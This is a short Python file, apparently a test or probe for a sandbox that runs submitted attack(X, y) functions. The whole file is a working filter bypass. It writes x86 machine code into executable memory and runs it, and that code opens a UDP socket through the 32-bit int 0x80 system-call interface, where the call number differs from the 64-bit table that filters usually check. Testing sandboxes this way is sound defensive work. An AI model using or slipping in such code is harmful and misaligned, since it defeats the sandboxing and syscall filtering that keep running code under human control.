"""Opens a socket with a 32-bit system call, whose number means another call in the table of 64-bit ones."""

import ctypes
import mmap
import platform

AF_INET, SOCK_DGRAM, SOCKET_32 = 2, 2, 359
# push rbx; mov ebx, AF_INET; mov ecx, SOCK_DGRAM; xor edx, edx; mov eax, SOCKET_32; int 0x80; pop rbx; ret
CODE = b"\x53\xbb%b\xb9%b\x31\xd2\xb8%b\xcd\x80\x5b\xc3" % tuple(
    number.to_bytes(4, "little") for number in (AF_INET, SOCK_DGRAM, SOCKET_32)
)


def attack(X, y):
    if platform.machine() != "x86_64":
        raise OSError("there is no such call here")
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    if descriptor < 0:
        raise OSError(-descriptor, "socket by int 0x80")
    return True
